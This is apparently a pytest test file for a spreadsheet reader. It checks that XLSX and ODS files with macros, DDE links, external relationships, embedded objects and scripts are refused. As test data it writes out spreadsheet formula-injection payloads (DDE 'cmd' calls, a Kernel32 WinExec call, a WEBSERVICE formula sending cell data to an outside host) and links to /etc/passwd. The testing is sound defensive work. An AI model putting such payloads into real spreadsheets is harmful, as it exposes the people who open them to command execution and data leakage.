"""What runs, fetches or hides: macros, links, DDE, files within the file."""

from __future__ import annotations

import pytest

from tests.reading.hostile import ODS, SHEET, XLSX, compound_file, in_content, with_text
from tests.reading.refusing import Refusing
from tests.reading.writing import part, repacked

RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId9" TargetMode="External" Target="{}" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)

NAMED = "<definedNames><definedName name='a'>{}</definedName></definedNames>"
CHOICE = (
    "<dataValidations><dataValidation sqref='A1'><formula1>{}</formula1></dataValidation>"
    "</dataValidations>"
)
COLOUR = (
    "<conditionalFormatting sqref='A1'><cfRule><formula>{}</formula></cfRule>"
    "</conditionalFormatting>"
)
DDE = (
    "<table:dde-links><table:dde-link><office:dde-source office:dde-application='soffice'"
    " office:dde-topic='x' office:dde-item='y'/></table:dde-link></table:dde-links>"
)


def typed(old: bytes, new: bytes) -> bytes:
    types = part(XLSX, "[Content_Types].xml")
    assert old in types
    return repacked(XLSX, {"[Content_Types].xml": types.replace(old, new)})


def formula(text: str) -> bytes:
    cell = f'<row r="9"><c r="A9"><f>{text}</f><v>0</v></c></row>'.encode()
    return with_text(XLSX, SHEET, b"</sheetData>", cell)


@pytest.mark.parametrize(
    "text",
    ["cmd|'/c calc'!A1", "DDE(\"cmd\",\"/c calc\",\"x\")", "msexcel|'..\\\\calc'!''",
     'WEBSERVICE("http://x.be/"&amp;A1)', 'CALL("Kernel32","WinExec","JCJ","calc",0)',
     'REGISTER.ID("x","y")', "1+cmd|x!A1", 'RTD("x",,"y")'],
)  # fmt: skip
def test_a_formula_that_starts_a_program_or_fetches(refusing: Refusing, text: str) -> None:
    refusing.refuses(formula(text), "active_content")
    if "&amp;" not in text:
        attribute = text.replace('"', "&quot;")
        cell = f'<table:table-row><table:table-cell table:formula="of:={attribute}"/>'
        refusing.refuses(in_content(f"{cell}</table:table-row>".encode()), "active_content")


@pytest.mark.parametrize(
    ("name", "before", "put"),
    [
        ("xl/workbook.xml", b"<calcPr", NAMED), (SHEET, b"<pageMargins", CHOICE),
        (SHEET, b"<pageMargins", COLOUR),
    ],
    ids=["name", "choice", "colour"],
)  # fmt: skip
def test_a_formula_outside_the_cells_that_starts_a_program(
    refusing: Refusing, name: str, before: bytes, put: str
) -> None:
    harmless = with_text(XLSX, name, before, put.format("bezoeken!$A$1").encode())
    assert refusing.look(harmless).outcome == "accepted"
    data = with_text(XLSX, name, before, put.format("cmd|'/c calc'!A1").encode())
    refusing.refuses(data, "active_content")


@pytest.mark.parametrize("kind", ["externalLinkPath", "oleObject", "attachedTemplate", "image",
                                  "externalLink", "frame"])  # fmt: skip
@pytest.mark.parametrize("target", ["file:///etc/passwd", "http://127.0.0.1:9/x", "\\\\x\\y"])
def test_a_link_to_something_outside(refusing: Refusing, kind: str, target: str) -> None:
    relations = {f"xl/worksheets/_rels/{SHEET[-10:]}.rels": RELATION.format(target, kind).encode()}
    refusing.refuses(repacked(XLSX, relations), "active_content")


def test_a_link_that_a_person_clicks_is_no_harm(refusing: Refusing) -> None:
    relations = RELATION.format("https://www.saamo.be", "hyperlink").encode()
    data = repacked(XLSX, {"xl/worksheets/_rels/sheet1.xml.rels": relations})
    assert refusing.look(data).outcome == "accepted"


@pytest.mark.parametrize(
    "name",
    ["xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml",
     "xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml", "xl/ctrlProps/ctrlProp1.xml",
     "xl/macrosheets/sheet1.xml", "xl/dialogsheets/sheet1.xml", "xl/vbaProject.bin",
     "xl/webextensions/webextension1.xml", "xl/model/item.data", "_xmlsignatures/sig1.xml",
     "xl/media/brief.docx", "xl/media/program.exe", "customXml/x.js"],
)  # fmt: skip
def test_a_part_that_runs_or_fetches_or_hides(refusing: Refusing, name: str) -> None:
    refusing.refuses(repacked(XLSX, {name: b"<x/>"}), "active_content")


def test_a_workbook_with_macros(refusing: Refusing) -> None:
    main = b"spreadsheetml.sheet.main+xml"
    named = b"application/vnd.openxmlformats-officedocument."
    data = typed(named + main, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    refusing.refuses(data, "active_content", "bezoeken.xlsm")
    with_code = repacked(data, {"xl/vbaProject.bin": compound_file("VBA", "PROJECT")})
    refusing.refuses(with_code, "active_content", "bezoeken.xlsx")
    hidden = repacked(XLSX, {"xl/media/image1.png": compound_file("VBA", "PROJECT")})
    refusing.refuses(hidden, "active_content")


@pytest.mark.parametrize(
    "name",
    ["Basic/Standard/Module1.xml", "Basic/script-lc.xml", "Scripts/python/x.py", "Dialogs/x.xml",
     "Object 1", "ObjectReplacements/../x.bin", "database/script"],
)  # fmt: skip
def test_an_ods_file_with_programs_in_it(refusing: Refusing, name: str) -> None:
    seen = refusing.look(repacked(ODS, {name: b"<x/>"}), "bezoeken.ods")
    assert (seen.outcome, seen.reason) in (
        ("refused", "active_content"),
        ("refused", "not_readable"),
    )


@pytest.mark.parametrize(
    "element",
    [DDE,
     "<office:event-listeners><script:event-listener/></office:event-listeners>",
     "<office:scripts><office:script>x</office:script></office:scripts>",
     "<table:table-source href='file:///etc/passwd'/>", "<draw:object-ole/>", "<draw:plugin/>",
     "<table:cell-range-source href='http://127.0.0.1:9'/>", "<draw:applet/>",
     "<draw:floating-frame/>", "<form:connection-resource/>", "<text:dde-connection/>"],
    ids=lambda text: text.split()[0].strip("</>").replace(":", " "),
)  # fmt: skip
def test_an_ods_file_that_runs_or_fetches(refusing: Refusing, element: str) -> None:
    content = part(ODS, "content.xml")
    root = b"<office:document-content"
    for name in (b"script", b"draw", b"form", b"text"):
        if b"xmlns:%b=" % name not in content:
            content = content.replace(root, root + b" xmlns:%b='urn:x'" % name, 1)
    content = content.replace(b"</office:spreadsheet>", element.encode() + b"</office:spreadsheet>")
    refusing.refuses(repacked(ODS, {"content.xml": content}), "active_content", "bezoeken.ods")
